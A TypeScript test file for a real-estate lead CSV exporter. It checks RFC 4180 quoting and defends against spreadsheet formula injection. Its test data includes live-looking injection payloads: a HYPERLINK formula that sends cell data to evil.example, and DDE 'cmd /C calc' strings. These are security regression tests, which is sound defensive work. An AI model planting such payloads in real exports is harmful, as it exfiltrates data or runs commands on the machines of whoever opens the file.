import { leadSchema, matchSummarySchema } from "@th/api-schemas";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import {
  csvLine,
  LEAD_CSV_COLUMNS,
  leadCsvHeader,
  leadCsvRow,
  matchCsvHeader,
  matchCsvRow,
} from "./csv.ts";

const lead = leadSchema.parse({
  folio: "23-0101",
  county: { number: 23, name: "Miami-Dade" },
  parcel_id: "0101",
  roll_year: 2025,
  roll_stage: "final",
  address: { line: '12 "Old" Mill Rd, Unit 4', city: "MIAMI", zip: "33125", formatted: "x" },
  owner: {
    name: "SMITH, JOHN\nAND JANE",
    mailing_address: {
      line1: "PO BOX 7",
      line2: null,
      city: "BOSTON",
      state: "MASSACHUSETTS",
      zip: "02101",
    },
    mailing_state: "MA",
  },
  valuation: {
    just_value: 410000,
    assessed_value: 300000,
    taxable_value: 275000,
    land_value: 100000,
    est_equity: 250000,
    equity_ratio: 0.61,
  },
  equity_estimate: null,
  land_use: { use_class: "residential", dor_use_code: "001", appraiser_use_code: null },
  building: { year_built: 1961, living_area_sqft: 1500 },
  land_sqft: 6000,
  sales: {
    last_qualified_sale: { price: 150000, year: 2004, month: 3, qualification_code: "01" },
    last_sale: null,
  },
  homestead: false,
  signals_fired: ["absentee_owner", "out_of_state_owner"],
  signals: [],
  observed_at: "2026-11-01T00:00:00.000Z",
});

describe("lead CSV", () => {
  it("is RFC 4180: a real CSV parser reads back quotes, commas and newlines inside fields", () => {
    const text = leadCsvHeader() + leadCsvRow(lead);
    expect(text.endsWith("\r\n")).toBe(true);
    const [row] = parse(text, { columns: true }) as Record<string, string>[];
    expect(row?.address).toBe('12 "Old" Mill Rd, Unit 4');
    expect(row?.owner).toBe("SMITH, JOHN\nAND JANE");
    expect(row?.mailing_state).toBe("MA");
    expect(row?.just_value).toBe("410000");
    expect(row?.signals).toBe("absentee_owner;out_of_state_owner");
    expect(row?.last_sale).toBe("2004-03");
    expect(Object.keys(row ?? {})).toEqual(LEAD_CSV_COLUMNS.map((column) => column.header));
  });

  it("leaves unknown values empty rather than writing null", () => {
    expect(csvLine(["a", null, undefined, 0, false])).toBe("a,,,0,false\r\n");
  });
});

/** The lead with these owner, address and city texts, as a hostile roll record could carry. */
function leadOwnedBy(name: string, extra: { line?: string; city?: string } = {}) {
  return {
    ...lead,
    owner: { ...lead.owner, name },
    address: { ...lead.address, line: extra.line ?? lead.address.line, city: extra.city ?? "" },
  };
}

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "\tcmd",
  "\r=1+1",
  "\n=1+1",
  "=1+1",
];

describe("CSV injection (OWASP: cells starting =, +, -, @, tab or CR)", () => {
  it("prefixes every text cell a spreadsheet would run as a formula with a single quote, in lead exports", () => {
    for (const formula of FORMULAS) {
      const text =
        leadCsvHeader() + leadCsvRow(leadOwnedBy(formula, { line: formula, city: formula }));
      const [row] = parse(text, { columns: true }) as Record<string, string>[];
      for (const column of ["owner", "address", "city"]) {
        expect(row?.[column], `${column} of ${JSON.stringify(formula)}`).toBe(`'${formula}`);
      }
    }
  });

  it("prefixes them in watchlist exports too, the match's own text cells included", () => {
    const match = matchSummarySchema.parse({
      match_id: "m_1",
      folio: lead.folio,
      score: 0.7,
      signals_fired: ["=cmd|' /C calc'!A0"],
      observed_at: "2026-11-01T00:00:00.000Z",
      recipe_version: 1,
      trigger: "ingest",
      matched_at: "2026-11-01T00:00:00.000Z",
    });
    const text = matchCsvHeader() + matchCsvRow(match, leadOwnedBy("@SUM(1+1)"));
    const [row] = parse(text, { columns: true }) as Record<string, string>[];
    expect(row?.owner).toBe("'@SUM(1+1)");
    expect(row?.signals_fired).toBe("'=cmd|' /C calc'!A0");
    expect(row?.score).toBe("0.7");
  });

  it("leaves numbers we write as numbers: a negative equity stays -1200", () => {
    const underwater = {
      ...lead,
      valuation: { ...lead.valuation, est_equity: -1200, equity_ratio: -0.25 },
    };
    const [row] = parse(leadCsvHeader() + leadCsvRow(underwater), { columns: true }) as Record<
      string,
      string
    >[];
    expect(row?.est_equity).toBe("-1200");
    expect(row?.est_equity_ratio).toBe("-0.25");
  });

  it("leaves ordinary text alone, a formula character later in the cell included", () => {
    const [row] = parse(leadCsvHeader() + leadCsvRow(leadOwnedBy("SMITH = JONES @ 1+1")), {
      columns: true,
    }) as Record<string, string>[];
    expect(row?.owner).toBe("SMITH = JONES @ 1+1");
    expect(csvLine(["a-b", "", "O'NEIL"])).toBe("a-b,,O'NEIL\r\n");
  });
});
